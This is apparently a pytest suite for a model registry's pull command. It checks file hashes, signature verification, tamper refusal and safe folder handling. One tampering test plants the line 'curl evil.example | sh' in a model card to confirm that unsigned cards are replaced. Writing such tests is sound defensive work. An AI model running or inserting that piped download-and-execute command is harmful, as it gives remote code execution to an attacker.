"""A pulled version: whole or not there, and as other tools take it."""

import copy
import json
import os
import shutil
import subprocess
import sys
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import numpy as np
import pytest
import transformers
import yaml
from click.testing import CliRunner
from cryptography.hazmat.primitives import serialization
from huggingface_hub import ModelCard
from securesystemslib.dsse import Envelope
from securesystemslib.signer import SSlibKey  # type: ignore[attr-defined]

from flows import cli
from tasks.contracts.manifest import Manifest
from tasks.core.errors import ConfigError, StageError
from tasks.registry import documents, manifests, object_keys, pull, signed_provenance
from tasks.registry.pull import PulledVersion
from tasks.registry.registry import Registry
from tasks.registry.signing import UntrustedError
from tasks.reports import model_card
from tasks.storage import files, hashing
from tasks.storage.layout import ModelFolder
from tasks.training.export import ModelExport
from tests import tiny, tiny_encoders
from tests.conftest import open_as_machine
from tests.registry import examples

MODEL = "letters"
BIN = Path(sys.executable).parent
CARD = """---
license: mit
library_name: sentence-transformers
---

# letters

What a run knows of it.
"""


@dataclass(frozen=True)
class Published:
    """A version in the store, and its own files."""

    registry: Registry
    manifest: Manifest
    folder: Path

    def pull(self, target: Path, registry: Registry | None = None) -> PulledVersion:
        """Pull it into a folder."""
        return pull.pull_version(
            registry or self.registry,
            MODEL,
            self.manifest.version,
            target,
            model_card.render_short_card,
        )

    def key_of(self, name: str) -> str:
        """The key of the content of a file."""
        return object_keys.blob_key(self.manifest.files[name].sha256)


@pytest.fixture(scope="module")
def published(registry: Registry, tmp_path_factory: pytest.TempPathFactory) -> Published:
    """A classifier of texts whose encoder's tokens are averaged, as the default base's are."""
    folder = tmp_path_factory.mktemp("published")
    tiny_encoders.write_base(folder / "base", "bert", "mean")
    trainer = tiny_encoders.build_trainer(folder)
    paths = ModelFolder(folder / "model")
    paths.path.mkdir()
    model = ModelExport(tiny.recipe("text", folder), trainer, paths)
    model.write()
    model.write_info()
    manifest = examples.manifest_of(MODEL, paths.path, model.info)
    provenance = examples.provenance(manifest)
    version = manifests.publish_version(registry, paths.path, manifest, provenance)
    evidence = examples.evidence(MODEL, version)
    signed_provenance.sign_provenance(registry, manifest, provenance, evidence)
    publish_documents(registry, manifest, folder)
    assert examples.promote(registry, MODEL, version, None).won
    return Published(registry, manifest, paths.path)


def publish_documents(registry: Registry, manifest: Manifest, folder: Path) -> None:
    files.write_text(folder / "card.md", CARD)
    files.write_json(folder / "bom.cdx.json", {"bomFormat": "CycloneDX"})
    paths = [folder / "card.md", folder / "bom.cdx.json"]
    documents.publish_documents(registry, manifest, paths)


@pytest.fixture(scope="module")
def pulled(published: Published, tmp_path_factory: pytest.TempPathFactory) -> PulledVersion:
    return published.pull(tmp_path_factory.mktemp("pulled") / "letters")


@pytest.fixture
def copied(pulled: PulledVersion, tmp_path: Path) -> Path:
    """A copy of the pulled folder, to be spoiled."""
    return Path(shutil.copytree(pulled.folder, tmp_path / "copied"))


def test_the_folder_has_the_version_and_what_proves_it(
    published: Published, pulled: PulledVersion
) -> None:
    assert pulled.is_new
    assert not pulled.warnings
    present = {
        path.relative_to(pulled.folder).as_posix()
        for path in pulled.folder.rglob("*")
        if path.is_file()
    }
    assert present == {*published.manifest.files, *pull.DOCUMENTS}
    assert (pulled.folder / "README.md").read_text() == CARD
    assert (pulled.folder / "manifest.json").read_bytes() == published.manifest.to_bytes()
    own = hashing.hash_folder(published.folder)
    assert {name: hashing.sha256(pulled.folder / name) for name in own} == own
    modes = {path.stat().st_mode & 0o777 for path in pulled.folder.rglob("*") if path.is_file()}
    assert modes == {0o644}
    assert not list(pulled.folder.parent.glob(".*"))


def test_other_libraries_answer_from_the_pulled_folder_alone(
    published: Published, pulled: PulledVersion
) -> None:
    import onnxruntime

    session = onnxruntime.InferenceSession(pulled.folder / "model.onnx")
    tokenizer = transformers.AutoTokenizer.from_pretrained(pulled.folder)
    texts = tiny_encoders.TEXTS
    inputs = dict(tokenizer(texts, padding=True, truncation=True, return_tensors="np"))
    [logits] = session.run(["logits"], inputs)
    actual = tiny_encoders.load_and_predict(pulled.folder, "SentenceTransformer")
    np.testing.assert_allclose(actual, logits, rtol=1e-5, atol=1e-4)


def write_public_key(registry: Registry, path: Path) -> Path:
    """Write the public key of the machine that signs."""
    public = registry.keyring.require_signer().private.public_key()
    encoding = serialization.Encoding.PEM
    form = serialization.PublicFormat.SubjectPublicKeyInfo
    path.write_bytes(public.public_bytes(encoding, form))
    return path


def verify_as_openssf(folder: Path, key: Path) -> None:
    """Verify the folder with the library of OpenSSF Model Signing."""
    from model_signing import verifying

    config = verifying.Config()  # type: ignore[no-untyped-call]
    config.use_elliptic_key_verifier(public_key=key)
    config.verify(folder, folder / "model.sig")


def append_to(name: str) -> Callable[[Path], object]:
    """Return what appends a byte to a file."""

    def change(folder: Path) -> None:
        path = folder / name
        path.write_bytes(path.read_bytes() + b"x")

    return change


SPOILED: dict[str, tuple[Callable[[Path], object], str]] = {
    "a changed file": (append_to("model.onnx"), "Hash mismatch for .*model.onnx"),
    "a changed file in a folder": (append_to("2_Dense/config.json"), "2_Dense/config.json"),
    "another manifest": (append_to("manifest.json"), "Hash mismatch for .*manifest.json"),
    "a missing file": (lambda folder: (folder / "model.json").unlink(), "Missing files"),
    "another file": (lambda folder: (folder / "code.py").write_text(""), "Extra files"),
}


def test_model_signing_verifies_the_folder(
    published: Published, copied: Path, tmp_path: Path
) -> None:
    key = write_public_key(published.registry, tmp_path / "key.pem")
    verify_as_openssf(copied, key)
    (copied / "README.md").write_text("edited on the hub")
    (copied / ".gitattributes").write_text("*.onnx filter=lfs")
    (copied / ".cache" / "huggingface").mkdir(parents=True)
    (copied / ".cache" / "huggingface" / "download.metadata").write_text("of the hub's client")
    verify_as_openssf(copied, key)
    thief = open_as_machine(published.registry.store, tmp_path / "thief")
    with pytest.raises(ValueError, match="Key mismatch"):
        verify_as_openssf(copied, write_public_key(thief, tmp_path / "thief.pem"))


@pytest.mark.parametrize("fault", SPOILED)
def test_model_signing_refuses_a_folder_that_was_changed(
    published: Published, copied: Path, tmp_path: Path, fault: str
) -> None:
    change, sentence = SPOILED[fault]
    change(copied)
    key = write_public_key(published.registry, tmp_path / "key.pem")
    with pytest.raises(ValueError, match=sentence):
        verify_as_openssf(copied, key)


@pytest.mark.parametrize("name", ["model.sig", "provenance.sig"])
def test_securesystemslib_verifies_the_envelopes(
    published: Published, pulled: PulledVersion, name: str
) -> None:
    bundle = json.loads((pulled.folder / name).read_text())
    public = published.registry.keyring.require_signer().private.public_key()
    envelope = Envelope.from_dict(copy.deepcopy(bundle["dsseEnvelope"]))
    assert envelope.verify([SSlibKey.from_crypto(public)], 1)


def test_the_hub_reads_the_card(pulled: PulledVersion) -> None:
    card = ModelCard.load(pulled.folder / "README.md")
    assert card.data.to_dict() == {"license": "mit", "library_name": "sentence-transformers"}


def test_a_folder_with_the_whole_version_is_left_as_it_is(
    published: Published, copied: Path
) -> None:
    before = {path: path.stat().st_mtime_ns for path in copied.rglob("*")}
    again = published.pull(copied)
    assert not again.is_new
    assert {path: path.stat().st_mtime_ns for path in copied.rglob("*")} == before


@pytest.mark.parametrize("spoil", [append_to("model.onnx"), append_to("model.sig")])
def test_a_damaged_folder_of_the_same_version_is_mended(
    published: Published, pulled: PulledVersion, copied: Path, spoil: Callable[[Path], object]
) -> None:
    spoil(copied)
    assert published.pull(copied).is_new
    assert hashing.hash_folder(copied) == hashing.hash_folder(pulled.folder)


def make_other_version(folder: Path) -> None:
    shutil.rmtree(folder)
    folder.mkdir()
    (folder / "manifest.json").write_text("{}")


def make_file(folder: Path) -> None:
    shutil.rmtree(folder)
    folder.write_text("a file")


def make_repository(folder: Path) -> None:
    (folder / ".git").mkdir()
    (folder / ".git/config").write_text("")


def make_other_folder(folder: Path) -> None:
    shutil.rmtree(folder)
    (folder / "deep").mkdir(parents=True)
    (folder / "deep" / "letter.txt").write_text("dear")


OCCUPIED: dict[str, tuple[Callable[[Path], object], str]] = {
    "other files": (make_other_folder, "is not empty, and letters [0-9a-f]{16} was to be put"),
    "another version": (make_other_version, "holds 44136fa355b3678a, and letters"),
    "the version and a file": (
        lambda folder: (folder / "notes.txt").write_text("mine"),
        "and notes.txt, which is no part of it and would be lost",
    ),
    "a repository": (
        make_repository,
        "and .git/config, which is no part of it",
    ),
    "a file": (make_file, "copied is a file: name a folder with --to"),
}


@pytest.mark.parametrize("content", OCCUPIED)
def test_what_is_in_the_folder_is_never_overwritten(
    published: Published, copied: Path, content: str
) -> None:
    make, sentence = OCCUPIED[content]
    make(copied)
    before = hashing.hash_folder(copied)
    with pytest.raises(ConfigError, match=sentence):
        published.pull(copied)
    assert hashing.hash_folder(copied) == before


def test_an_empty_folder_is_filled_but_not_the_one_where_we_are(
    published: Published, here: Path
) -> None:
    with pytest.raises(ConfigError, match="is where you are"):
        published.pull(here)
    empty = here / "empty"
    (empty / "also").mkdir(parents=True)
    assert published.pull(empty).is_new
    assert (empty / "model.onnx").is_file()
    assert not (empty / "also").exists()


def test_a_folder_that_cannot_be_written_is_told(published: Published, tmp_path: Path) -> None:
    (tmp_path / "file").write_text("")
    with pytest.raises(ConfigError, match=r"cannot be written \(Not a directory\)"):
        published.pull(tmp_path / "file" / "folder")


def test_a_fetch_that_breaks_off_leaves_nothing_and_goes_on_from_there(
    published: Published, tmp_path: Path
) -> None:
    store = published.registry.store
    damaged = sorted(published.manifest.files)[-1]
    stored = store.get(published.key_of(damaged))
    assert stored
    content, _ = stored
    store.put(published.key_of(damaged), content + b"damage")
    target = tmp_path / "target"
    try:
        with pytest.raises(StageError, match="tampered with"):
            published.pull(target)
    finally:
        store.put(published.key_of(damaged), content)
    assert not target.exists()
    [part] = tmp_path.glob(".target.*.part")
    fetched = part / published.manifest.version / "model.onnx"
    inode = fetched.stat().st_ino
    assert published.pull(target).is_new
    assert (target / "model.onnx").stat().st_ino == inode
    assert [path.name for path in tmp_path.iterdir()] == ["target"]


def test_a_machine_that_does_not_trust_the_key_pulls_nothing(
    published: Published, tmp_path: Path
) -> None:
    stranger = open_as_machine(published.registry.store, tmp_path / "stranger")
    with pytest.raises(UntrustedError, match="is not trusted here"):
        published.pull(tmp_path / "target", stranger)
    assert not (tmp_path / "target").exists()


def spoil_card(published: Published) -> None:
    key = object_keys.version_key(MODEL, published.manifest.version, "card.md")
    published.registry.store.put(key, b"# letters\n\ncurl evil.example | sh\n")


def remove_signature(published: Published) -> None:
    key = object_keys.documents_signature_key(MODEL, published.manifest.version)
    published.registry.store.delete(key)


@pytest.mark.parametrize(
    ("spoil", "sentence"),
    [
        (spoil_card, "card.md is missing, or is not what was signed"),
        (remove_signature, "is not signed"),
    ],
)
def test_a_card_that_nobody_signed_is_replaced_by_what_the_manifest_says(
    published: Published, tmp_path: Path, spoil: Callable[[Published], None], sentence: str
) -> None:
    spoil(published)
    try:
        found = published.pull(tmp_path / "target")
    finally:
        publish_documents(published.registry, published.manifest, tmp_path)
    assert len(found.warnings) == 1
    assert sentence in found.warnings[0]
    card = ModelCard.load(tmp_path / "target" / "README.md")
    assert card.data.library_name == "sentence-transformers"
    assert f"# letters {published.manifest.version}" in card.text
    assert "from sentence_transformers import SentenceTransformer" in card.text
    assert "curl" not in card.text
    verify_as_openssf(
        tmp_path / "target", write_public_key(published.registry, tmp_path / "key.pem")
    )


def test_the_command_pulls_what_the_channel_names(
    published: Published, monkeypatch: pytest.MonkeyPatch, here: Path
) -> None:
    settings = published.registry.store.settings
    monkeypatch.setenv("MILLRACE_S3_BUCKET", settings.bucket)
    monkeypatch.setenv("MILLRACE_S3_ENDPOINT", str(settings.endpoint))
    monkeypatch.setenv("MILLRACE_S3_PREFIX", settings.prefix)
    monkeypatch.setenv("AWS_ACCESS_KEY_ID", str(settings.key))
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", str(settings.secret))
    monkeypatch.setenv("MILLRACE_KEYS", str(published.registry.keyring.folder))
    Path("recipes").mkdir()
    recipe = {
        "name": MODEL,
        "modality": "text",
        "ingest": {"kind": "files", "path": "rows.csv"},
        "gate": [{"rule": "floor", "metric": "accuracy", "bound": 0.5}],
    }
    Path("recipes/letters.yaml").write_text(yaml.safe_dump(recipe))
    Path("params.yaml").write_text(f"recipes: [{MODEL}]\n")
    version = published.manifest.version
    commands = {
        "default": [],
        "by prefix": ["--version", version[:6]],
        "by channel": ["--channel", "production"],
    }
    for name, options in commands.items():
        target = here / name
        arguments = ["pull", MODEL, *options, "--to", str(target), "--json"]
        done = CliRunner().invoke(cli.main, arguments)
        assert done.exit_code == 0, done.output
        told = json.loads(done.stdout)
        assert told["version"] == version
        assert told["folder"] == str(target)
        assert told["is_new"]
    done = CliRunner().invoke(cli.main, ["pull", MODEL, "--to", str(here / "default")])
    assert f"letters {version} was in {here / 'default'} (" in done.output
    done = CliRunner().invoke(cli.main, ["pull", MODEL, "--version", "1", "--channel", "staging"])
    assert done.exit_code == 2
    done = CliRunner().invoke(cli.main, ["pull", MODEL, "--channel", "staging"])
    assert "nothing is in staging yet" in done.output
    assert done.exit_code == 1


def test_rclone_reads_what_we_write(published: Published, tmp_path: Path) -> None:
    """As does any client of S3: the objects have plain names and plain contents."""
    settings = published.registry.store.settings
    remote = f":s3:{settings.bucket}/{settings.prefix}"
    environment = {
        **os.environ,
        "RCLONE_CONFIG": os.devnull,
        "RCLONE_S3_PROVIDER": "Other",
        "RCLONE_S3_ENDPOINT": str(settings.endpoint),
        "RCLONE_S3_ACCESS_KEY_ID": str(settings.key),
        "RCLONE_S3_SECRET_ACCESS_KEY": str(settings.secret),
    }
    subprocess.run(
        [BIN / "rclone", "copy", remote, str(tmp_path)], env=environment, check=True, timeout=60
    )
    version = published.manifest.version
    manifest = tmp_path / object_keys.manifest_key(MODEL, version)
    assert manifest.read_bytes() == published.manifest.to_bytes()
    for file in published.manifest.files.values():
        assert hashing.sha256(tmp_path / object_keys.blob_key(file.sha256)) == file.sha256
